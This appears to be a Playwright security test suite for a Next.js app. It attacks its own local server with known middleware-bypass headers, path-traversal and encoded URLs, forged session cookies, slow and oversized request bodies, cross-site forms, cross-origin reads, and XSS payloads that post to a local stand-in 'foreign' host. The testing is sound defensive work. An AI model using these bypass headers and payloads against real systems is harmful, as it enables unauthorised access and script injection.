import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { attack } from '@/lib/auth/testing/attacks/attack';
import { paths } from '@/lib/paths';
import { forgeSession, sessionCookie } from './attacks/forge-session';
import { test } from './attacks/locked';
import { freePort, lockedToken } from './attacks/locked-server';
import { rawRequest, type RawAnswer } from './attacks/raw-request';
import { expect } from './fixtures';

// Browsers write every refusal to the console.
test.use({ allowedErrors: /./ });

let foreign: Server;
let foreignURL = '';
/** What the foreign site's page says next, and what it was asked for. */
let foreignPage = '';
const foreignAsked: string[] = [];
let ask: (path: string, headers?: Record<string, string>) => Promise<RawAnswer>;

test.beforeAll(async ({ server }) => {
  ask = (asked, headers = {}) => rawRequest(server.port, asked, { headers });
  const port = await freePort();
  foreignURL = `http://127.0.0.1:${port}`;
  foreign = createServer((request, response) => {
    foreignAsked.push(request.url ?? '');
    const isScript = request.url === '/evil.js';
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
    response.end(isScript ? 'window.owned = 4' : foreignPage);
  });
  await new Promise<void>((resolve) => foreign.listen(port, '127.0.0.1', resolve));
});
test.afterAll(() => {
  foreign.close();
  foreign.closeAllConnections();
});

const runCount = async (cookie: string) =>
  (JSON.parse((await ask(paths.api.runs(), { cookie })).body) as { runs: unknown[] }).runs.length;

/** The ids by which this build's actions are called. */
function actionIds(): string[] {
  const manifest = JSON.parse(readFileSync('.next/server/server-reference-manifest.json', 'utf8')) as { node: object };
  return Object.keys(manifest.node);
}

// Next's gate was once passed by headers of its own, and by paths that were tidied up after it had looked.
const oddHeaders: Record<string, string>[] = [
  {},
  { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy' },
  { 'x-middleware-subrequest': 'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware' },
  { 'x-middleware-prefetch': '1', purpose: 'prefetch' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-state-tree': '%5B%22%22%5D' },
  { 'x-forwarded-host': 'localhost', 'x-forwarded-for': '127.0.0.1' },
  { 'x-original-url': '/login', 'x-rewrite-url': '/login' },
  { 'x-invoke-path': '/runs', 'x-invoke-status': '200', 'x-matched-path': '/login' },
  { authorization: `Bearer ${lockedToken.slice(0, -1)}` },
];

test(attack('page-gate'), async ({ server, cookie }) => {
  const { runId } = server.rows;
  const asked = [
    ...['/', '/runs', `/runs/${runId}`, '/api/runs', '//api/runs', '/api//runs', '/api/./runs', '/x/../api/runs'],
    ...['/%61pi/runs', '/API/runs', '/api%2fruns', '/api/runs/', '/api/runs;x', '/api/runs%00', '/api/runs?x=/login'],
    ...[
      '/_next/static/../../api/runs',
      '/_next/static/%2e%2e/%2e%2e/api/runs',
      '/login/../api/runs',
      '/login/%2e%2e/runs',
    ],
    ...['/_next/image?url=%2Fapi%2Fruns&w=64&q=75', '/_next/data/x/runs.json', '/runs.rsc', '/runs.txt', '/index.rsc'],
    ...[
      '/favicon.ico/../api/runs',
      'http://127.0.0.1/api/runs',
      '/login/submit',
      '/en/runs',
      '/.next/BUILD_ID',
      '/.env',
    ],
  ];
  expect((await ask('/api/runs', { cookie })).body).toContain(runId);
  for (const one of asked) {
    for (const headers of oddHeaders) {
      const { status, body } = await ask(one, headers);
      const what = `${one} ${JSON.stringify(headers)} answered ${status}`;
      expect(body.replaceAll(encodeURIComponent(one), '').includes(runId) && !body.startsWith('/login'), what).toBe(
        false,
      );
      expect(status, what).not.toBe(200);
    }
  }
});

test(attack('page-forged-cookie'), async ({ cookie }) => {
  const [issuedAt = '', signature = ''] = cookie.slice(sessionCookie.length + 1).split('.');
  const values = [
    ...['', 'x', lockedToken, `${issuedAt}.`, `.${signature}`, `${Number(issuedAt) + 1}.${signature}`],
    ...[forgeSession('another-token-of-16', Date.now()), forgeSession(lockedToken, Date.now() - 8 * 24 * 3_600_000)],
  ];
  for (const value of values) {
    const headers = { cookie: `${sessionCookie}=${value}` };
    expect((await ask('/runs', headers)).headers.location, value).toBe('/login?next=%2Fruns');
    expect((await ask('/api/runs', headers)).status, value).toBe(401);
  }
  expect((await ask('/api/runs', { cookie })).status).toBe(200);
});

test(attack('share-way-in'), async ({ server }) => {
  const [slug = ''] = server.rows.slugs;
  expect((await ask(`/share/${slug}`)).status).toBe(200);
  const ways = [
    '/share/../runs',
    '/share/%2e%2e/runs',
    '/share//runs',
    `/share/${slug}/../../runs`,
    `/share/${slug}/x`,
  ];
  const more = [`/share/${slug}%2f..%2f..%2fruns`, '/share/..%2fruns', '/share/.', '/share/', `/share/${slug}%00`];
  for (const way of [...ways, ...more]) {
    const { status, body } = await ask(way);
    expect([307, 308, 400, 404], `${way} answered ${status}`).toContain(status);
    expect(body, way).not.toContain('<h1>Runs');
  }
});

test(attack('page-large-action'), async ({ server, cookie }) => {
  const before = await runCount(cookie);
  const body = JSON.stringify([{ files: [{ name: 'x', text: 'x'.repeat(9 * 1024 * 1024) }] }]);
  for (const id of actionIds()) {
    const own = { cookie, origin: server.baseURL, 'next-action': id, 'content-type': 'text/plain;charset=UTF-8' };
    // With its length told it is not read; without, Next stops at its limit and does not call the action.
    expect((await rawRequest(server.port, '/', { method: 'POST', headers: own, body })).status).toBe(413);
    const chunked = { ...own, 'transfer-encoding': 'chunked' };
    const answer = await rawRequest(server.port, '/', { method: 'POST', headers: chunked, body });
    expect(answer.body).not.toMatch(/"ok":(true|false)/);
    if (answer.status !== 404) break;
  }
  expect(await runCount(cookie)).toBe(before);
});

test(attack('page-slow-body'), async ({ server, cookie }) => {
  const head = (target: string, extra: string) =>
    `POST ${target} HTTP/1.1\r\nHost: 127.0.0.1:${server.port}\r\nOrigin: ${server.baseURL}\r\n${extra}Content-Length: 1000\r\n\r\n`;
  const sockets = Array.from({ length: 50 }, (_, i) => {
    const socket = net.connect(server.port, '127.0.0.1').on('error', () => undefined);
    socket.write(head(i % 2 ? '/login/submit' : '/', i % 2 ? '' : `Cookie: ${cookie}\r\nNext-Action: x\r\n`));
    return socket;
  });
  for (let i = 0; i < 5; i += 1) expect((await ask('/api/runs', { cookie })).status).toBe(200);
  sockets.forEach((socket) => socket.destroy());
});

test(attack('page-foreign-form'), async ({ page, server, cookie, logIn }) => {
  const before = await runCount(cookie);
  const ids = actionIds();
  expect(ids.length).toBeGreaterThan(20);
  for (const id of ids) {
    const headers = { cookie, origin: foreignURL, 'next-action': id, 'content-type': 'text/plain;charset=UTF-8' };
    const answer = await rawRequest(server.port, '/', { method: 'POST', headers, body: '[{}]' });
    expect(answer.status, id).toBe(403);
  }
  // Another port of the host is the same site: the browser sends the session along, even a strict one.
  await logIn();
  const statuses: number[] = [];
  page.on('response', (response) => {
    if (response.request().method() === 'POST') statuses.push(response.status());
  });
  for (const [i, enctype] of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'].entries()) {
    foreignPage = `<form method="post" enctype="${enctype}" action="${server.baseURL}/">
      <input name="$ACTION_ID_${ids[i]}" value=""><input name="0" value='[{}]'></form>
      <script>fetch('${server.baseURL}/', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '[{}]' })
        .finally(() => document.forms[0].submit())</script>`;
    await page.goto(foreignURL);
    await page.waitForURL(`${server.baseURL}/`);
  }
  // The forms; what `fetch` was answered the browser does not even tell.
  expect(statuses).toEqual([403, 403, 403]);
  expect(await runCount(cookie)).toBe(before);
});

test(attack('page-foreign-read'), async ({ page, server, logIn }) => {
  await logIn();
  foreignPage = `<!doctype html><iframe src="${server.baseURL}/"></iframe><script src="${server.baseURL}/api/runs"></script>
    <img src="${server.baseURL}/api/runs">`;
  await page.goto(foreignURL);
  const got = await page.evaluate(async (target) => {
    const outcome = (work: Promise<unknown>) =>
      work.then(
        () => 'read',
        () => 'nothing',
      );
    const api = `${target}/api/runs`;
    const include = { credentials: 'include' } as const;
    const stream = new EventSource(`${target}/api/host/events`, { withCredentials: true });
    const heard = new Promise((resolve, reject) => {
      stream.onmessage = resolve;
      stream.onerror = reject;
    });
    const opened = window.open(target);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    return [
      await outcome(fetch(api, include)),
      await outcome(fetch(api, { ...include, headers: { 'x-own': '1' } })),
      await outcome(fetch(api, { ...include, method: 'POST' })),
      await outcome(heard),
      await outcome((async () => opened?.document.title ?? Promise.reject(new Error('closed')))()),
      await outcome((async () => frames[0]?.document.title)()),
    ];
  }, server.baseURL);
  expect(got).toEqual(got.map(() => 'nothing'));
  const framed = page.frames().find((frame) => frame !== page.mainFrame());
  expect(await framed?.evaluate(() => document.body.innerText).catch(() => '')).not.toContain('GPU-Load');
});

test(attack('page-inline-script'), async ({ page, server, logIn }) => {
  await logIn();
  const payload = `<script>window.owned=1</script><img src=x onerror="window.owned=2"><base href="${foreignURL}/">
    <script src="${foreignURL}/evil.js"></script><iframe src="${foreignURL}/frame"></iframe><object data="${foreignURL}/object">
    </object><link rel="stylesheet" href="${foreignURL}/style"><img src="${foreignURL}/picture">`;
  let isIn = false;
  await page.route(`${server.baseURL}/runs`, async (route) => {
    const response = await route.fetch();
    // As if a name had been written into the page as markup, under the headers that the page has.
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + payload);
    isIn = body.includes(payload);
    await route.fulfill({ response, body });
  });
  foreignAsked.length = 0;
  await page.goto(`${server.baseURL}/runs`);
  expect(isIn).toBe(true);
  // And what a script of the page could be led to do with a text.
  await page.evaluate((elsewhere) => {
    const holder = document.createElement('div');
    holder.innerHTML = `<a href="javascript:window.owned=3">x</a><img src=x onerror="window.owned=4">
      <form action="${elsewhere}/stolen"><input name="q"></form>`;
    document.body.append(holder);
    holder.querySelector('a')?.click();
    holder.querySelector('form')?.submit();
  }, foreignURL);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
  expect(foreignAsked).toEqual([]);
  expect(page.url()).toBe(`${server.baseURL}/runs`);
});

test(attack('bundle-client'), () => {
  const scripts = readdirSync('.next/static', { recursive: true, encoding: 'utf8' }).filter((file) =>
    file.endsWith('.js'),
  );
  expect(scripts.length).toBeGreaterThan(10);
  const parts = [
    'gpu-load session v1',
    'createHmac',
    'child_process',
    'PRAGMA journal_mode',
    'execa',
    'gpu-load.active-runs',
  ];
  const text = scripts.map((file) => readFileSync(path.join('.next/static', file), 'utf8')).join('\n');
  expect(parts.filter((part) => text.includes(part))).toEqual([]);
  expect(text.includes(lockedToken)).toBe(false);
});
